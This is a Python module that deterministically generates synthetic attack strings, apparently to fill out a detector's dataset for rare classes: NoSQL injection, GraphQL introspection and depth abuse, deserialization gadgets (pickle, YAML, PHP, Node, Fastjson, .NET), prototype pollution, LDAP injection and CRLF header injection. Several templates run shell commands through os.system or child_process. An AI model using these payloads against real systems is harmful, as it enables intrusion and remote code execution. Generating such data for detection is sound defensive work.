"""Attacks by grammar, for classes that corpora hold few of. Deterministic: the same seed, the same texts."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

Draw = random.Random


def _word(draw: Draw) -> str:
    return draw.choice(
        ["user", "name", "mail", "login", "id", "role", "token", "q", "title", "price", "owner", "tag"]
    )


def nosqli(draw: Draw) -> str:
    """Operators in documents, in form names, in text; code in ``$where``."""
    name, other = _word(draw), _word(draw)
    operator = draw.choice(["$ne", "$gt", "$gte", "$lt", "$regex", "$in", "$nin", "$exists", "$where", "$or"])
    value = draw.choice(["null", '""', "1", "true", "[]", '".*"', '"^a"', "{}"])
    return draw.choice(
        [
            f'{{"{name}": {{"{operator}": {value}}}}}',
            f'{{"{name}": "x", "{other}": {{"{operator}": {value}}}}}',
            f"{name}[{operator}]=1&{other}[{operator}]=x",
            f"', $where: '{draw.randrange(9)} == {draw.randrange(9)}",
            f"' && this.{name}.match(/{draw.choice(['.*', '^a', 'x+'])}/)//",
            f"true, $where: 'sleep({draw.randrange(1, 9)}000)'",
            f"db.{name}s.{draw.choice(['find', 'remove', 'drop', 'insert'])}({{}})",
        ]
    )


def graphql(draw: Draw) -> str:
    """Introspection, depth, aliases."""
    name = _word(draw)
    depth, width = draw.randrange(17, 40), draw.randrange(35, 80)
    return draw.choice(
        [
            "{__schema{" + draw.choice(["types", "queryType", "directives"]) + "{name}}}",
            f'query {{ __type(name: "{name}") {{ fields {{ name }} }} }}',
            f"fragment {name}F on __{draw.choice(['Type', 'Field', 'InputValue'])} {{ name kind }}",
            "query {" + f" {name} {{" * depth + " id " + "}" * (depth + 1),
            "mutation {" + " ".join(f'a{n}: {name}(p: "{n}") {{ ok }}' for n in range(width)) + "}",
        ]
    )


def deserialization(draw: Draw) -> str:
    """Objects of PHP, Python, Java, .NET, Ruby, Node, YAML, and their type names in JSON."""
    name = draw.choice(["Evil", "Logger", "Cache", "Monolog", "User"])
    command = draw.choice(["id", "ls -la", "curl x", "sleep 5"])
    return draw.choice(
        [
            f'O:{len(name)}:"{name}":1:{{s:1:"a";s:{len(command)}:"{command}";}}',
            f"cos\nsystem\n(S'{command}'\ntR.",
            f"!!python/object/apply:{draw.choice(['os.system', 'subprocess.Popen'])} ['{command}']",
            f"!!javax.script.ScriptEngineManager [!!java.net.URL ['http://{name}.example/']]",
            "rO0ABXNy" + "".join(draw.choices("ABCDEFGHabcdefgh0123", k=24)),
            json.dumps({"rce": f"_$$ND_FUNC$$_function(){{require('child_process').exec('{command}')}}()"}),
            json.dumps(
                {"@type": f"com.{name.lower()}.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x/a"}
            ),
            json.dumps({"$type": f"System.Windows.Data.{name}, PresentationFramework"}),
            json.dumps({"py/object": f"{name.lower()}.Command"}),
            f"--- !ruby/object:Gem::{name}\ni: x",
            "AAEAAAD/////AQAAAAAAAAAM" + "".join(draw.choices("ABCDEFGHabcdefgh0123", k=16)),
        ]
    )


def prototype_pollution(draw: Draw) -> str:
    """Prototypes written through names, paths and documents."""
    name, value = _word(draw), draw.choice(["true", "1", '"x"', "{}"])
    return draw.choice(
        [
            f'{{"__proto__": {{"{name}": {value}}}}}',
            f'{{"a": {{"__proto__": {{"{name}": {value}}}}}}}',
            f'{{"constructor": {{"prototype": {{"{name}": {value}}}}}}}',
            f"__proto__[{name}]={value}",
            f"{name}[__proto__][polluted]=1",
            f"constructor[prototype][{name}]=1",
            f"{name}.__proto__.polluted=1",
            f"constructor.prototype.{name}",
            f"__proto__.{name}=1",
        ]
    )


def ldapi(draw: Draw) -> str:
    """Filters closed and reopened."""
    attribute = draw.choice(["uid", "cn", "sn", "mail", "objectClass", "userPassword", "memberOf"])
    value, sign = draw.choice(["admin", "x", "test", "*"]), draw.choice("&|")
    return draw.choice(
        [
            f"{value})({attribute}=*",
            f"*)({attribute}=*))({sign}({attribute}=*",
            f"{value})({sign}({attribute}=*)",
            f"*({sign}({attribute}=*))",
            f"{value})(!({sign}({attribute}={draw.randrange(99)}))",
            f"({sign}({attribute}={value})(cn=*))",
            f"{value}))({sign}({attribute}=*",
        ]
    )


def crlf(draw: Draw) -> str:
    """Headers and responses behind a line break, raw or encoded."""
    end = draw.choice(["\r\n", "\n", "%0d%0a", "%0a", "%0D%0A", "%250a", "\\r\\n"])
    value = "".join(draw.choices("abcdef0123456789", k=6))
    header = draw.choice(
        [
            f"Set-Cookie:sid={value}",
            f"Set-Cookie: {value}=1",
            f"Location: https://{value}.example",
            "Content-Length: 0",
            "Content-Type: text/html",
            f"X-Forwarded-For: 127.0.0.{draw.randrange(255)}",
        ]
    )
    return f"{_word(draw)}{draw.choice(['', '=1', ' '])}{end}{header}"


GRAMMARS: dict[str, Callable[[Draw], str]] = {
    "nosqli": nosqli,
    "graphql": graphql,
    "deserialization": deserialization,
    "prototype_pollution": prototype_pollution,
    "ldapi": ldapi,
    "crlf": crlf,
}


def texts(attack: str, count: int = 200, seed: int = 1) -> list[str]:
    """So many attacks of this class, with repetitions left in."""
    draw = random.Random(f"{attack}/{seed}")
    return [GRAMMARS[attack](draw) for _ in range(count)]
